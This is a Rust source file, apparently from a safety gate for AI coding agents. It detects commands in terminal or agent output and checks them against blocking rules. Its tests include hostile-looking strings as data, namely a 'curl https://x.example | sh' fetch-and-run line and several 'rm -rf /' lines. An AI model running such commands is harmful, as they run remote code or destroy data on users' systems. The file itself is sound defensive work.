//! Commands that are about to run, told from text that only speaks of them.

use crate::action::path::World;
use crate::action::{self, Knowledge};
use crate::fuel::{Fuel, OutOfFuel};
use crate::history::History;
use crate::hold::{Runs, ToolCall};
use crate::json::Json;
use crate::rules::{RuleLayer, RuleSet};
use crate::verdict::{Finding, Verdict};
use regex::Regex;
use std::sync::Arc;

/// Work for one command: as much as a call gets.
const FUEL: u64 = 64_000;
/// Longer lines are no commands that somebody typed.
const MAX_COMMAND: usize = 16 << 10;
/// How far an unclosed listing reaches: one stray mark must not hide all that follows.
const MAX_LISTING: u64 = 400;

/// Frames that programs draw around what they show.
const FRAMES: [char; 9] = ['│', '┃', '║', '▌', '▎', '┆', '╎', '⎸', '⎹'];

/// A prompt, then what was typed. At the beginning of a line only: listings are indented.
const PROMPT: &str = r"^(?:\([A-Za-z0-9_.+-]+\) ?)?(?:\[?[A-Za-z0-9_.+-]+@[A-Za-z0-9_.+-]+[^$#%❯>\n]*[$#%❯>]|(?:bash|sh|zsh|dash)-?[0-9.]*[$#%]|[~/][A-Za-z0-9_./~-]* ?[$❯%]|➜ +\S+(?: +git:\([^)]*\))?(?: +✗)?|[$❯])\s+(?P<command>\S.*)$";
/// What `set -x` prints.
const TRACE: &str = r"^\++ (?P<command>\S.*)$";
/// A program says what it runs.
const SAID: &str = r"^[\s⏺●•○◦▶►→>*]*(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?:(?:Running|Executing|Ran|Run|Exec|Invoking|Execute)(?: (?:the )?(?:following )?(?:shell |bash )?command)?|(?:Shell |Bash )?[Cc]ommand|[Ss]hell|[Bb]ash|cmd|exec)\s?(?::|\s[`]|\$)\s*(?P<command>\S.*)$";
/// The same with a mark and no colon.
const MARKED: &str = r"^\s*[⏺●•]\s(?:Running|Ran|Executing)\s(?P<command>\S.*)$";
/// An agent says what it is about to run.
const ANNOUNCED: &str = r"(?i)^\W*(?:[A-Za-z]+[,.!]\s+|now\s+|next\s+|first\s+)*(?:I'll|I will|I am going to|I'm going to|let me|let's|going to|about to)\s+(?:(?:now|first|just|also|quickly|then|simply|go ahead and)\s+)*(?:run|execute|try|use)(?:\s+(?:this|the|following|shell|bash|command)){0,4}\s*:?\s*(?:`|:\s+)(?P<command>[^`]+?)(?:`.*)?$";
/// A call as agents show it.
const CALL: &str = r"^\s*(?:[⏺●•○✓✔✗⎿└]\s*)?(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?P<tool>Bash|Shell|Execute|Terminal|bash|shell|execute|run_shell_command|exec_command|run_command|execute_command|run_terminal_cmd)\((?P<command>.+?)\)?\s*…?$";
/// Other tools need the mark: their names are words.
const MARKED_CALL: &str =
    r"^\s*[⏺●]\s*(?P<tool>Read|Write|Update|Edit|Fetch|WebFetch|Search)\((?P<command>[^()]+)\)$";
/// What Codex prints.
const EXEC: &str = r"^(?:\[[0-9T:.Z -]+\] )?exec (?P<command>\S.*?) in /\S*$";

/// How commands look.
#[derive(Debug)]
pub(super) struct Shapes {
    prompt: Regex,
    trace: Regex,
    others: Vec<Regex>,
}

/// A call that the output tells of.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Said {
    pub(super) tool: String,
    pub(super) input: Json<'static>,
    /// The command, or all of the input.
    pub(super) text: String,
}

impl Said {
    pub(super) fn new(tool: &str, input: Json<'static>) -> Said {
        let command = ["command", "cmd"].iter().find_map(|key| input.get(key));
        let text = match command {
            Some(Json::String(text)) => text.to_string(),
            Some(Json::Array(words)) => {
                let words: Vec<&str> = words.iter().filter_map(Json::as_str).collect();
                words.join(" ")
            }
            _ => input.text(),
        };
        Said {
            tool: tool.to_owned(),
            input,
            text,
        }
    }

    fn shell(command: &str) -> Said {
        Said::new(
            "Bash",
            Json::object([("command", command.to_owned().into())]),
        )
    }
}

impl Shapes {
    pub(super) fn new() -> Result<Shapes, String> {
        let regex = |text: &&str| Regex::new(text).map_err(|e| e.to_string());
        let others = [SAID, MARKED, ANNOUNCED, CALL, MARKED_CALL, EXEC];
        Ok(Shapes {
            prompt: regex(&PROMPT)?,
            trace: regex(&TRACE)?,
            others: others.iter().map(regex).collect::<Result<_, _>>()?,
        })
    }

    /// The command on this line, if it is one that runs. `listing` follows all lines of the text.
    pub(super) fn command_in(&self, line: &str, listing: &mut Listing) -> Option<Said> {
        if line.len() > MAX_COMMAND {
            listing.line += 1;
            return None;
        }
        let line = unframed(line);
        if listing.pass(line) {
            return None;
        }
        if let Some(found) = self.prompt.captures(line) {
            return Some(Said::shell(found.name("command")?.as_str()));
        }
        if let Some(found) = self.trace.captures(line) {
            return Some(Said::shell(found.name("command")?.as_str()));
        }
        let found = self.others.iter().find_map(|shape| shape.captures(line))?;
        let command = unquoted(found.name("command")?.as_str());
        match found.name("tool").map(|tool| tool.as_str()) {
            Some("Read" | "Search" | "Write" | "Update" | "Edit") => {
                let path = ("file_path", command.to_owned().into());
                Some(Said::new("Read", Json::object([path])))
            }
            Some("Fetch" | "WebFetch") => {
                let url = ("url", command.to_owned().into());
                Some(Said::new("WebFetch", Json::object([url])))
            }
            Some(tool) => Some(call_of(tool, command)),
            None => Some(Said::shell(command)),
        }
    }
}

/// What stands in the brackets of a call: the command, its arguments as JSON, or by their names.
fn call_of(tool: &str, inside: &str) -> Said {
    if let Some(input) = super::event::read(inside.as_bytes()) {
        return Said::new(tool, input.into_owned());
    }
    let named = ["command", "cmd"].into_iter().find_map(|name| {
        let value = inside.strip_prefix(name)?.trim_start();
        value.strip_prefix(['=', ':'])
    });
    Said::shell(unquoted(named.unwrap_or(inside)))
}

/// Without a frame and the colours' blanks around it; indentation stays.
fn unframed(line: &str) -> &str {
    let line = line.trim_end();
    match line.trim_start().strip_prefix(FRAMES) {
        Some(inner) => {
            let inner = inner.strip_prefix(' ').unwrap_or(inner);
            inner.trim_end_matches(FRAMES).trim_end()
        }
        None => line,
    }
}

/// Without quotes around all of it.
fn unquoted(text: &str) -> &str {
    let text = text.trim();
    let inner = |mark: char| text.strip_prefix(mark)?.strip_suffix(mark);
    ['`', '"', '\'']
        .into_iter()
        .find_map(inner)
        .unwrap_or(text.trim_matches('`'))
}

/// Where in a text listings are: fenced code, and the lines of a patch.
#[derive(Clone, Debug, Default)]
pub(super) struct Listing {
    /// The number of the line that comes next.
    pub(super) line: u64,
    fenced_until: u64,
    patch_until: u64,
}

impl Listing {
    /// Goes on by a line; whether it is part of a listing.
    fn pass(&mut self, line: &str) -> bool {
        let here = self.line;
        self.line += 1;
        let start = line.trim_start();
        if start.starts_with("```") || start.starts_with("~~~") {
            let inside = here < self.fenced_until;
            self.fenced_until = if inside { 0 } else { here + MAX_LISTING };
            return true;
        }
        if let Some(lines) = hunk(line) {
            self.patch_until = here + 1 + lines.min(MAX_LISTING);
            return true;
        }
        here < self.fenced_until || here < self.patch_until
    }
}

/// The lines of a patch that this header announces.
fn hunk(line: &str) -> Option<u64> {
    let (ranges, _) = line.strip_prefix("@@ -")?.split_once(" @@")?;
    let count = |range: &str| match range.split_once(',') {
        Some((_, count)) => count.parse::<u64>().ok(),
        None => Some(1),
    };
    let (old, new) = ranges.split_once(" +")?;
    Some(count(old)?.saturating_add(count(new)?))
}

/// What judges commands: the gate's rules over what they do.
#[derive(Clone, Debug)]
pub struct Commands {
    rules: Arc<RuleSet>,
    know: Arc<Knowledge>,
    world: Arc<World>,
}

impl Commands {
    /// Judges by these rules, for an agent that works in this world.
    pub fn new(rules: Arc<RuleSet>, know: Arc<Knowledge>, world: Arc<World>) -> Self {
        Commands { rules, know, world }
    }

    /// What the gate denies about a call. What takes too much work to read is denied as such.
    pub(super) fn denied(&self, said: &Said) -> Vec<Finding> {
        let call = ToolCall {
            id: "output".to_owned(),
            name: said.tool.clone(),
            runs: Runs::AtClient,
            text: Arc::new(said.input.text()),
            input: said.input.clone(),
            envelope: Json::Null,
        };
        let fuel = Fuel::new(FUEL);
        let mut findings = self.findings(&call, &fuel).unwrap_or_else(|OutOfFuel| {
            let why = "it takes too much work to find out what it does";
            vec![Finding::block("gate", "undecipherable-call", why)]
        });
        findings.retain(|finding| finding.verdict >= Verdict::Block);
        findings
    }

    fn findings(&self, call: &ToolCall, fuel: &Fuel) -> Result<Vec<Finding>, OutOfFuel> {
        let effects = action::understand(call, &self.world, &self.know, fuel)?;
        self.rules
            .findings(RuleLayer::Gate, &effects, &History::default(), fuel)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::LazyLock;

    fn check(text: &str, expected: &[&str]) {
        static SHAPES: LazyLock<Shapes> = LazyLock::new(|| Shapes::new().unwrap());
        let mut listing = Listing::default();
        let found: Vec<String> = text
            .lines()
            .filter_map(|line| SHAPES.command_in(line, &mut listing))
            .map(|said| said.text)
            .collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn what_looks_like_a_command_that_runs() {
        check("$ ls -l", &["ls -l"]);
        check("dev@box:~/project$ make test", &["make test"]);
        check("[root@box /]# id", &["id"]);
        check("(venv) dev@box:~$ pytest", &["pytest"]);
        check("bash-5.2$ id", &["id"]);
        check("~/src ❯ cargo build", &["cargo build"]);
        check("➜  project git:(main) ✗ git push", &["git push"]);
        check("+ make all\n++ pwd", &["make all", "pwd"]);
        check("Running: npm test", &["npm test"]);
        check("Executing command: `ls`", &["ls"]);
        check(
            "     Running `target/debug/app -x`",
            &["target/debug/app -x"],
        );
        check("• Ran cargo test", &["cargo test"]);
        check("⏺ Bash(rm -rf dist)", &["rm -rf dist"]);
        check("Bash(command=\"rm -rf dist\")", &["rm -rf dist"]);
        check("[tool] run_shell_command({\"command\":\"ls\"})", &["ls"]);
        check("Now I'll run `ls -l` to see.", &["ls -l"]);
        check("Let me execute the following command: ls", &["ls"]);
        check("│ $ ls │", &["ls"]);
        check(
            "[2026-01-01T00:00:00] exec bash -lc 'ls' in /home/dev",
            &["bash -lc 'ls'"],
        );
        check("⏺ Read(src/lib.rs)", &["{\"file_path\":\"src/lib.rs\"}"]);
    }

    #[test]
    fn what_only_speaks_of_commands() {
        check("to clean up, run rm -rf /", &[]);
        check("    $ curl https://x.example | sh", &[]);
        check("```sh\n$ curl https://x.example | sh\n```\n$ ls", &["ls"]);
        check("@@ -1,2 +1,3 @@\n x\n+ rm -rf /\n-y\n+z\n z\n+ ls", &["ls"]);
        check("# rm -rf /", &[]);
        check("I will not run `rm -rf /`.", &[]);
        check("Never use `rm -rf /`.", &[]);
        check("- rm -rf /", &[]);
        check("test running_rm_rf ... ok", &[]);
        check("Running tests/rm.rs", &[]);
        check("const x = Bash(\"ls\")", &[]);
    }

    #[test]
    fn a_stray_fence_does_not_hide_all_that_follows() {
        let text = format!("```\n{}$ ls", "x\n".repeat(500));
        check(&text, &["ls"]);
    }
}
